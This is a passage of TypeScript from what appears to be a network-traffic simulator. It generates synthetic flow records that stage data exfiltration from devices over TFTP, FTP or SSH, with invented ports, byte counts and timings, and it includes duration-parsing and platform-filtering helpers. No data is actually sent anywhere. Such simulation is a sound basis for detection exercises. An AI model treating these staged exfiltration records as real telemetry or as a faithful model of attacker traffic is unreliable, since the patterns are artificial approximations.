      return ops[0];
    }
    return ops.find((o) => o.name === want) ?? { name: want, role: 'li-admin', status: 'active', workstation: '0.0.0.0', hours: [0, 24], rate: 0 };
  }

  private exfilFlow(d: Device, dest: string, method: string, t: number, bytes: number, tag?: string): void {
    const x = this.ctx.flows.edgeExporter(d);
    if (!x) return;
    const from = d.publicIp ?? d.loopback;
    const dur = Math.max(2000, Math.round(bytes / 400)); // TFTP is slow: ~400 kB/s
    if (method === 'tftp') {
      const sport = this.rng.int(49152, 65000);
      this.ctx.flows.add({ t, end: t + 200, exporter: x.name, src: from, dst: dest, sport, dport: 69, proto: PROTO.UDP, bytes: 60, packets: 1, inIf: 1, outIf: 40, flags: 0, tag });
      this.ctx.flows.add({ t: t + 200, end: t + dur, exporter: x.name, src: from, dst: dest, sport, dport: 69, proto: PROTO.UDP, bytes, packets: Math.ceil(bytes / 512), inIf: 1, outIf: 40, flags: 0, tag });
      this.ctx.flows.add({ t: t + 250, end: t + dur, exporter: x.name, src: dest, dst: from, sport: this.rng.int(20000, 60000), dport: sport, proto: PROTO.UDP, bytes: Math.ceil(bytes / 512) * 32, packets: Math.ceil(bytes / 512), inIf: 40, outIf: 1, flags: 0, tag });
    } else {
      const port = method === 'ftp' ? 21 : 22;
      this.ctx.flows.tcp(x, from, dest, port, t, t + dur, bytes, Math.round(bytes / 30) + 2000, tag, 1, 40);
      if (method === 'ftp') this.ctx.flows.tcp(x, from, dest, 20, t + 1500, t + dur, bytes, Math.round(bytes / 40), tag, 1, 40);
    }
  }
}

function parseDurationParam(v: unknown, dflt: number): number {
  if (typeof v === 'number') return v * MIN;
  if (typeof v !== 'string') return dflt;
  const m = /^(?:(\d+)d)?(?:(\d+)h)?(?:(\d+)m)?(?:(\d+)s)?$/.exec(v.trim());
  if (!m) return dflt;
  return ((Number(m[1] ?? 0) * 24 + Number(m[2] ?? 0)) * 60 + Number(m[3] ?? 0)) * MIN + Number(m[4] ?? 0) * 1000;
}

/** The candidates on the target's platform; with a list, on its first platform that any candidate runs. */
function byPlatform(cands: Device[], tg: { platform?: string | string[] }): Device[] {
  if (tg.platform === undefined) return cands;
  for (const p of Array.isArray(tg.platform) ? tg.platform : [tg.platform]) {
    const on = cands.filter((d) => d.platform === p);
    if (on.length) return on;
  }
  return [];
}
